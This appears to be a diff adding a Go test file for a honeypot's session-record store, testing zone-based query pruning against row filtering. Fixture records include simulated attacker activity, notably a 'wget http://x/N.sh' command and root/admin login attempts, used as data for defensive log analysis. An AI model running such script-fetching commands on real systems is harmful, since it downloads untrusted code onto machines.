@@ -1,0 +1,248 @@
+package store
+
+import (
+	"fmt"
+	"io"
+	"math/rand"
+	"regexp"
+	"testing"
+	"time"
+
+	"honeynet/internal/session"
+)
+
+// zoneRecs are records laid out so that zones differ: kinds and
+// protocols come in runs longer than a 2 KiB block, so blocks — and,
+// sealed in slices, segments — hold one kind or protocol as often as
+// several, and some hold a protocol the masks do not name.
+func zoneRecs(from, n int) []*session.Record {
+	recs := make([]*session.Record, 0, n)
+	for i := from; i < from+n; i++ {
+		r := mkRecord(0, i*300) // 97 s apart × 300: ~75 days over the slice of 220
+		r.Logins, r.Commands, r.Downloads, r.StateChanged = nil, nil, nil, false
+		switch session.Kind(i / 40 % 4) {
+		case session.Scouting:
+			r.Logins = []session.LoginAttempt{{Username: "root", Password: "x"}}
+		case session.Intrusion:
+			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
+		case session.CommandExec:
+			r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
+			r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh", i)}}
+		}
+		r.Protocol = [...]string{session.ProtoSSH, session.ProtoTelnet, session.ProtoSSH, "http"}[i/110%4]
+		recs = append(recs, r)
+	}
+	return recs
+}
+
+// zoned is one zone of the store under test beside the records it
+// summarizes.
+type zoned struct {
+	name string
+	z    zone
+	recs []*session.Record
+}
+
+// openZoned builds a mixed store — the legacy fixture's v1 and v2
+// segments plus three v3 seals of zoneRecs — and lists every zone it
+// holds: each segment's, each kind and protocol bucket's, each v3
+// block directory's.
+func openZoned(t *testing.T) (*Store, []zoned) {
+	t.Helper()
+	dir := t.TempDir()
+	copyLegacy(t, dir)
+	for i := 0; i < 3; i++ {
+		sealInto(t, dir, zoneRecs(i*220, 220))
+	}
+	s, err := Open(dir, Options{ReadOnly: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { s.Close() })
+
+	var out []zoned
+	man, _ := s.snapshot()
+	for _, seg := range man.Segments {
+		br, err := s.openSegment(seg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var recs []*session.Record
+		for {
+			_, line, err := br.next()
+			if err == io.EOF {
+				break
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			r := &session.Record{}
+			if err := new(session.JSONDecoder).Decode(line, r); err != nil {
+				t.Fatal(err)
+			}
+			recs = append(recs, r)
+		}
+		br.close()
+		out = append(out, zoned{seg.File, seg.zone(), recs})
+
+		for _, by := range []Field{FieldKind, FieldProto} {
+			buckets, n := seg.buckets(by, seg.zone())
+			for i, bk := range buckets[:n] {
+				b := zoned{name: fmt.Sprintf("%s %s bucket %d", seg.File, by.Name(), i), z: bk.zone}
+				for _, r := range recs {
+					if bk.kinds&(1<<uint(r.Kind())) != 0 && bk.protos&protoMaskBit(r.Protocol) != 0 {
+						b.recs = append(b.recs, r)
+					}
+				}
+				if len(b.recs) != bk.n {
+					t.Fatalf("%s: zone covers %d records, manifest counts %d", b.name, len(b.recs), bk.n)
+				}
+				out = append(out, b)
+			}
+		}
+
+		if seg.Codec != codecV3 {
+			continue
+		}
+		cs, err := s.openColSeg(seg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rest := recs
+		for bi, bm := range seg.Blocks {
+			var d colDir
+			if err := cs.readDir(bi, &d); err != nil {
+				t.Fatal(err)
+			}
+			out = append(out, zoned{fmt.Sprintf("%s block %d", seg.File, bi), d.zone(), rest[:bm.Count]})
+			rest = rest[bm.Count:]
+		}
+		cs.close()
+	}
+	return s, out
+}
+
+// genZonePred draws a random predicate tree whose leaves are the ones a
+// zone can decide (start, month, day, kind, proto — every comparison,
+// including literals that begin no month or day) mixed with ones it
+// cannot (ip, login_ok, cmd).
+func genZonePred(rng *rand.Rand, depth int) *Pred {
+	if depth > 0 && rng.Intn(3) > 0 {
+		switch rng.Intn(3) {
+		case 0:
+			return And(genZonePred(rng, depth-1), genZonePred(rng, depth-1))
+		case 1:
+			return Or(genZonePred(rng, depth-1), genZonePred(rng, depth-1))
+		}
+		return Not(genZonePred(rng, depth-1))
+	}
+	order := CmpOp(rng.Intn(int(CmpGe) + 1))
+	// Instants across the fixture's month (2021-12) and zoneRecs'
+	// (2021-05 to 2021-11), on and off bucket boundaries.
+	at := time.Date(2021, 5, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(rng.Intn(250*24)) * time.Hour)
+	if rng.Intn(3) == 0 {
+		at = mkRecord(0, rng.Intn(660)*300).Start // a start some record has
+	}
+	switch rng.Intn(9) {
+	case 0:
+		return Cmp(FieldStart, order, TimeValue(at))
+	case 1:
+		return Cmp(FieldMonth, order, MonthValue(time.Date(at.Year(), at.Month(), 1, 0, 0, 0, 0, time.UTC)))
+	case 2:
+		return Cmp(FieldDay, order, DayValue(at.Truncate(24*time.Hour)))
+	case 3:
+		return Cmp([]Field{FieldMonth, FieldDay}[rng.Intn(2)], order, TimeValue(at))
+	case 4:
+		return Cmp(FieldKind, order, KindValue(session.Kind(rng.Intn(4))))
+	case 5:
+		protos := []string{session.ProtoSSH, session.ProtoTelnet, "http"}
+		return Cmp(FieldProto, []CmpOp{CmpEq, CmpNe, CmpLt}[rng.Intn(3)], StringValue(protos[rng.Intn(3)]))
+	case 6:
+		return Match(FieldProto, regexp.MustCompile("^s"), rng.Intn(2) == 0)
+	case 7:
+		return Cmp(FieldIP, CmpEq, StringValue(fmt.Sprintf("203.0.0.%d", rng.Intn(250))))
+	}
+	return []*Pred{
+		Cmp(FieldLoginOK, CmpEq, BoolValue(true)),
+		Match(FieldCmd, regexp.MustCompile("wget"), false),
+	}[rng.Intn(2)]
+}
+
+// TestTriSoundOverEveryZone: whatever a zone's verdict on a predicate,
+// the row Filter — the truth — agrees on every record the zone covers:
+// triFalse means none matches, triTrue means all do. Segment zones,
+// metadata bucket zones and block directory zones alike, under OR and
+// NOT as much as AND.
+func TestTriSoundOverEveryZone(t *testing.T) {
+	_, zones := openZoned(t)
+	rng := rand.New(rand.NewSource(21))
+	var verdicts [3]int
+	for i := 0; i < 1500; i++ {
+		pred := genZonePred(rng, 3)
+		p, err := lower(&Query{Where: pred})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, zd := range zones {
+			hits := 0
+			for _, r := range zd.recs {
+				if p.filter(r) {
+					hits++
+				}
+			}
+			v := p.tri(zd.z)
+			verdicts[v]++
+			if v == triFalse && hits != 0 || v == triTrue && hits != len(zd.recs) {
+				t.Fatalf("predicate %d over %s (%+v): verdict %d, but %d of %d records match",
+					i, zd.name, zd.z, v, hits, len(zd.recs))
+			}
+		}
+	}
+	if verdicts[triFalse] == 0 || verdicts[triTrue] == 0 || verdicts[triUnknown] == 0 {
+		t.Fatalf("verdicts (false, true, unknown) = %v: the generator exercises nothing", verdicts)
+	}
+	t.Logf("verdicts over %d zones: %d false, %d true, %d unknown",
+		len(zones), verdicts[triFalse], verdicts[triTrue], verdicts[triUnknown])
+}
+
+// TestMonthUnderOrPrunesBlocks: a month leaf is a start-time interval
+// wherever it stands in the tree, so `month = M OR kind = K` refutes
+// the segments and blocks that hold neither — and still returns what
+// the row Filter selects.
+func TestMonthUnderOrPrunesBlocks(t *testing.T) {
+	s, _ := openZoned(t)
+	pred := Or(
+		Cmp(FieldMonth, CmpEq, MonthValue(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))),
+		Cmp(FieldKind, CmpEq, KindValue(session.Intrusion)))
+	res, err := s.RunQuery(&Query{Where: pred, Select: []Field{FieldStart, FieldKind}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Close()
+	got := 0
+	for res.Next() {
+		got++
+	}
+	if err := res.Err(); err != nil {
+		t.Fatal(err)
+	}
+	keep, err := CompilePred(pred)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := 0
+	for _, r := range runRows(t, s, &Query{}) {
+		if keep(r) {
+			want++
+		}
+	}
+	if got != want || want == 0 {
+		t.Fatalf("query returned %d records, the filter selects %d", got, want)
+	}
+	st := res.Stats()
+	if st.TimePruned == 0 || st.BlocksZonePruned == 0 {
+		t.Fatalf("expected zone-pruned segments and blocks, stats: %+v", st)
+	}
+	t.Logf("%d rows; %d of %d segments and %d blocks zone-pruned, %d blocks read",
+		got, st.TimePruned, st.Segments, st.BlocksZonePruned, st.BlocksRead)
+}
